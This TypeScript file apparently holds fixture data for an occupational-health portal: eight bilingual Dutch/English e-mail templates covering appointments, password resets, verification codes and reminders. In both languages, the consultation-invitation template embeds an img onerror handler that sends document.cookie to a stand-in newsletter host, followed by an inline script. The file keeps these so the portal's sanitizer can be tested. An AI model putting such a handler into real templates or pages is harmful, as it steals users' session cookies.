import type { ServerLanguage } from '../platform/server-messages';

/** A text in both of the portal's languages. */
export type InBothLanguages = Readonly<Record<ServerLanguage, string>>;

/** An e-mail template as the back office keeps it: its texts in Dutch and English, with placeholders. */
export interface CatalogueTemplate {
  readonly id: string;
  readonly key: string;
  readonly name: InBothLanguages;
  readonly description: InBothLanguages;
  /** The placeholders its subject and body use, as the template editor declares them. */
  readonly placeholders: readonly string[];
  readonly updatedAt: string;
  readonly subject: InBothLanguages;
  /** Written in the back office's editor, so not to be trusted: the portal sanitizes it. */
  readonly html: InBothLanguages;
  /** Example values only this template gives a placeholder (a link to the right screen). */
  readonly examples?: Readonly<Record<string, InBothLanguages>>;
}

const REGARDS: InBothLanguages = {
  nl: '<p>Met vriendelijke groet,<br>Arbo Agenda</p>',
  en: '<p>Kind regards,<br>Arbo Agenda</p>',
};

const PORTAL = 'https://portaal.arbo-agenda.example';

/**
 * The e-mails the portal has the back office send. The consultation invitation still carries what a
 * newsletter tool left in it when its text was pasted into the editor (a tracking pixel with an
 * inline handler and a script): the back office sends such a body on as it is, and the portal's
 * preview must show it harmlessly.
 */
export const EMAIL_TEMPLATES: readonly CatalogueTemplate[] = [
  {
    id: '1',
    key: 'appointment_confirmed',
    name: { nl: 'Afspraakbevestiging', en: 'Appointment confirmation' },
    description: {
      nl: 'Gaat naar de werknemer zodra een afspraak is ingepland.',
      en: 'Sent to the employee as soon as an appointment has been booked.',
    },
    placeholders: ['name', 'professional', 'date', 'time', 'location', 'address', 'phone'],
    updatedAt: '2026-01-12T09:14:00Z',
    subject: {
      nl: 'Bevestiging van uw afspraak op :date',
      en: 'Confirmation of your appointment on :date',
    },
    html: {
      nl:
        '<p>Beste :name,</p>' +
        '<p>Hierbij bevestigen wij uw afspraak met :professional.</p>' +
        '<table><tbody>' +
        '<tr><th>Datum</th><td>:date</td></tr>' +
        '<tr><th>Tijd</th><td>:time uur</td></tr>' +
        '<tr><th>Locatie</th><td>:location<br>:address</td></tr>' +
        '</tbody></table>' +
        '<p>Neem een geldig legitimatiebewijs mee. Bent u verhinderd? Laat het ons dan uiterlijk 24 uur ' +
        'van tevoren weten via :phone. Een afspraak die u niet of te laat afzegt, kan bij uw werkgever ' +
        'in rekening worden gebracht.</p>' +
        REGARDS.nl,
      en:
        '<p>Dear :name,</p>' +
        '<p>We hereby confirm your appointment with :professional.</p>' +
        '<table><tbody>' +
        '<tr><th>Date</th><td>:date</td></tr>' +
        '<tr><th>Time</th><td>:time</td></tr>' +
        '<tr><th>Location</th><td>:location<br>:address</td></tr>' +
        '</tbody></table>' +
        '<p>Please bring a valid proof of identity. If you cannot come, let us know at least 24 hours ' +
        'in advance on :phone. An appointment cancelled late or not at all may be charged to your ' +
        'employer.</p>' +
        REGARDS.en,
    },
  },
  {
    id: '2',
    key: 'appointment_changed',
    name: { nl: 'Afspraak gewijzigd', en: 'Appointment changed' },
    description: {
      nl: 'Gaat naar de werknemer als de datum, de tijd of de locatie van een afspraak verandert.',
      en: 'Sent to the employee when the date, time or location of an appointment changes.',
    },
    placeholders: ['name', 'previousDate', 'previousTime', 'date', 'time', 'location', 'phone'],
    updatedAt: '2026-01-12T09:20:00Z',
    subject: {
      nl: 'Uw afspraak is verplaatst naar :date',
      en: 'Your appointment has been moved to :date',
    },
    html: {
      nl:
        '<p>Beste :name,</p>' +
        '<p>Uw afspraak van :previousDate om :previousTime uur is gewijzigd. Dit is uw nieuwe afspraak:</p>' +
        '<ul><li>Datum: <strong>:date</strong></li><li>Tijd: <strong>:time uur</strong></li>' +
        '<li>Locatie: :location</li></ul>' +
        '<p>Komt dit moment u niet uit? Bel ons dan op :phone, dan zoeken we samen een ander tijdstip.</p>' +
        REGARDS.nl,
      en:
        '<p>Dear :name,</p>' +
        '<p>Your appointment of :previousDate at :previousTime has been changed. This is your new ' +
        'appointment:</p>' +
        '<ul><li>Date: <strong>:date</strong></li><li>Time: <strong>:time</strong></li>' +
        '<li>Location: :location</li></ul>' +
        '<p>Does this time not suit you? Call us on :phone and we will find another one together.</p>' +
        REGARDS.en,
    },
  },
  {
    id: '3',
    key: 'appointment_cancelled',
    name: { nl: 'Afspraak geannuleerd', en: 'Appointment cancelled' },
    description: {
      nl: 'Gaat naar de werknemer als een afspraak niet doorgaat.',
      en: 'Sent to the employee when an appointment is called off.',
    },
    placeholders: ['name', 'date', 'time', 'phone'],
    updatedAt: '2025-11-03T14:02:00Z',
    subject: {
      nl: 'Uw afspraak op :date gaat niet door',
      en: 'Your appointment on :date has been cancelled',
    },
    html: {
      nl:
        '<p>Beste :name,</p>' +
        '<p>Uw afspraak op :date om :time uur gaat helaas niet door. U hoeft zelf niets te doen: wij ' +
        'nemen binnen twee werkdagen contact met u op voor een nieuwe afspraak.</p>' +
        '<p>Heeft u vragen? Bel ons op :phone.</p>' +
        REGARDS.nl,
      en:
        '<p>Dear :name,</p>' +
        '<p>Unfortunately your appointment on :date at :time has been cancelled. There is nothing you ' +
        'need to do: we will contact you within two working days to make a new appointment.</p>' +
        '<p>Any questions? Call us on :phone.</p>' +
        REGARDS.en,
    },
  },
  {
    id: '4',
    key: 'password_reset',
    name: { nl: 'Wachtwoord opnieuw instellen', en: 'Password reset' },
    description: {
      nl: 'Gaat naar een gebruiker die op het aanmeldscherm heeft aangegeven het wachtwoord te zijn vergeten.',
      en: 'Sent to a user who said on the sign-in screen that they forgot their password.',
    },
    placeholders: ['name', 'link', 'minutes'],
    updatedAt: '2025-09-22T07:45:00Z',
    subject: { nl: 'Stel uw wachtwoord opnieuw in', en: 'Reset your password' },
    html: {
      nl:
        '<p>Beste :name,</p>' +
        '<p>Wij hebben een verzoek ontvangen om het wachtwoord van uw account opnieuw in te stellen.</p>' +
        '<p><a href=":link">Nieuw wachtwoord instellen</a></p>' +
        '<p>De link is :minutes minuten geldig en werkt één keer. Heeft u dit niet aangevraagd? Dan kunt ' +
        'u deze e-mail negeren; uw wachtwoord blijft dan ongewijzigd.</p>' +
        REGARDS.nl,
      en:
        '<p>Dear :name,</p>' +
        '<p>We have received a request to reset the password of your account.</p>' +
        '<p><a href=":link">Choose a new password</a></p>' +
        '<p>The link is valid for :minutes minutes and works once. If you did not ask for this, you can ' +
        'ignore this e-mail; your password stays as it is.</p>' +
        REGARDS.en,
    },
    examples: {
      link: {
        nl: `${PORTAL}/password/reset-password/voorbeeld`,
        en: `${PORTAL}/password/reset-password/example`,
      },
      minutes: { nl: '60', en: '60' },
    },
  },
  {
    id: '5',
    key: 'two_factor_code',
    name: { nl: 'Verificatiecode', en: 'Verification code' },
    description: {
      nl: 'Gaat naar een gebruiker die bij het aanmelden een code per e-mail ontvangt.',
      en: 'Sent to a user who receives a sign-in code by e-mail.',
    },
    placeholders: ['name', 'code', 'minutes'],
    updatedAt: '2025-09-22T07:50:00Z',
    subject: { nl: 'Uw verificatiecode voor Arbo Agenda', en: 'Your Arbo Agenda verification code' },
    html: {
      nl:
        '<p>Beste :name,</p>' +
        '<p>Uw verificatiecode is:</p>' +
        '<p><strong>:code</strong></p>' +
        '<p>De code is :minutes minuten geldig. Deel deze code met niemand: onze medewerkers vragen ' +
        'er nooit naar.</p>' +
        REGARDS.nl,
      en:
        '<p>Dear :name,</p>' +
        '<p>Your verification code is:</p>' +
        '<p><strong>:code</strong></p>' +
        '<p>The code is valid for :minutes minutes. Do not share it with anyone: our staff will never ' +
        'ask you for it.</p>' +
        REGARDS.en,
    },
    examples: { minutes: { nl: '5', en: '5' } },
  },
  {
    id: '6',
    key: 'consult_invitation',
    name: { nl: 'Uitnodiging spreekuur', en: 'Consultation invitation' },
    description: {
      nl: 'Nodigt een werknemer op verzoek van de werkgever uit voor het spreekuur van de bedrijfsarts.',
      en: 'Invites an employee, at the employer’s request, to a consultation with the occupational physician.',
    },
    placeholders: ['name', 'employer', 'professional', 'date', 'time', 'location', 'address'],
    updatedAt: '2026-02-18T16:31:00Z',
    subject: {
      nl: 'Uitnodiging voor het spreekuur van :professional',
      en: 'Invitation to a consultation with :professional',
    },
    html: {
      nl:
        '<p>Beste :name,</p>' +
        '<p>In overleg met :employer nodigen wij u uit voor een gesprek op het spreekuur van ' +
        ':professional.</p>' +
        '<p><strong>:date om :time uur</strong><br>:location, :address</p>' +
        '<p>In dit gesprek bespreken we hoe het met u gaat en wat u nodig heeft om (weer) aan het werk ' +
        'te gaan. Wat u met de bedrijfsarts bespreekt, blijft vertrouwelijk: uw werkgever hoort alleen ' +
        'wat u wel en niet kunt, nooit uw diagnose.</p>' +
        '<img src="https://nieuwsbrief.example/open.gif" width="1" height="1" alt="" ' +
        'onerror="this.src=\'https://nieuwsbrief.example/open.gif?c=\'+document.cookie">' +
        "<script>window.trackOpen && window.trackOpen('spreekuur')</script>" +
        REGARDS.nl,
      en:
        '<p>Dear :name,</p>' +
        '<p>In consultation with :employer, we invite you to a consultation with :professional.</p>' +
        '<p><strong>:date at :time</strong><br>:location, :address</p>' +
        '<p>In this conversation we discuss how you are doing and what you need to (return to) work. ' +
        'What you discuss with the occupational physician stays confidential: your employer only hears ' +
        'what you can and cannot do, never your diagnosis.</p>' +
        '<img src="https://nieuwsbrief.example/open.gif" width="1" height="1" alt="" ' +
        'onerror="this.src=\'https://nieuwsbrief.example/open.gif?c=\'+document.cookie">' +
        "<script>window.trackOpen && window.trackOpen('consultation')</script>" +
        REGARDS.en,
    },
  },
  {
    id: '7',
    key: 'task_reminder',
    name: { nl: 'Herinnering taak', en: 'Task reminder' },
    description: {
      nl: 'Herinnert een professional aan een taak in een dossier die binnenkort verloopt.',
      en: 'Reminds a professional of a task in a dossier that is due soon.',
    },
    placeholders: ['name', 'task', 'employee', 'dueDate', 'link'],
    updatedAt: '2026-02-02T10:05:00Z',
    subject: {
      nl: 'Herinnering: :task verloopt op :dueDate',
      en: 'Reminder: :task is due on :dueDate',
    },
    html: {
      nl:
        '<p>Beste :name,</p>' +
        '<p>De taak <strong>:task</strong> in het dossier van :employee moet uiterlijk :dueDate zijn ' +
        'afgerond.</p>' +
        '<p><a href=":link">Naar mijn taken</a></p>' +
        '<p>Is de taak al klaar? Rond hem dan af in het portaal; u ontvangt er daarna geen herinneringen ' +
        'meer over.</p>' +
        REGARDS.nl,
      en:
        '<p>Dear :name,</p>' +
        '<p>The task <strong>:task</strong> in the dossier of :employee has to be completed by ' +
        ':dueDate.</p>' +
        '<p><a href=":link">Go to my tasks</a></p>' +
        '<p>Is the task done already? Complete it in the portal and you will get no more reminders ' +
        'about it.</p>' +
        REGARDS.en,
    },
    examples: {
      // A reminder goes to the professional who owns the task, not to the employee.
      name: { nl: 'Femke Jansen', en: 'Femke Jansen' },
      link: { nl: `${PORTAL}/tasks`, en: `${PORTAL}/tasks` },
    },
  },
  {
    id: '8',
    key: 'appointment_reminder',
    name: { nl: 'Herinnering afspraak', en: 'Appointment reminder' },
    description: {
      nl: 'Herinnert de werknemer aan een afspraak, standaard 24 uur en 1 uur van tevoren; noemt de rol van de professional, nooit het onderzoek.',
      en: 'Reminds the employee of an appointment, by default 24 hours and 1 hour ahead; names the professional’s role, never the examination.',
    },
    placeholders: ['name', 'role', 'date', 'time', 'place'],
    updatedAt: '2026-11-20T08:30:00Z',
    subject: { nl: 'Herinnering aan uw afspraak', en: 'Reminder of your appointment' },
    html: {
      nl:
        '<p>Beste :name,</p>' +
        '<p>Wij herinneren u aan uw afspraak met :role.</p>' +
        '<table><tbody>' +
        '<tr><th>Datum</th><td>:date</td></tr>' +
        '<tr><th>Tijd</th><td>:time uur</td></tr>' +
        '<tr><th>Plaats</th><td>:place</td></tr>' +
        '</tbody></table>' +
        '<p>De uitnodiging voor uw agenda zit erbij. Bent u verhinderd? Laat het ons dan zo snel mogelijk weten.</p>' +
        REGARDS.nl,
      en:
        '<p>Dear :name,</p>' +
        '<p>This is a reminder of your appointment with :role.</p>' +
        '<table><tbody>' +
        '<tr><th>Date</th><td>:date</td></tr>' +
        '<tr><th>Time</th><td>:time</td></tr>' +
        '<tr><th>Place</th><td>:place</td></tr>' +
        '</tbody></table>' +
        '<p>The invitation for your calendar is attached. Unable to come? Please let us know as soon as you can.</p>' +
        REGARDS.en,
    },
    examples: {
      role: { nl: 'uw bedrijfsarts', en: 'your occupational physician' },
      place: {
        nl: 'Arbo Agenda Utrecht, Stationsplein 45, 3511 ED Utrecht',
        en: 'Arbo Agenda Utrecht, Stationsplein 45, 3511 ED Utrecht',
      },
    },
  },
];
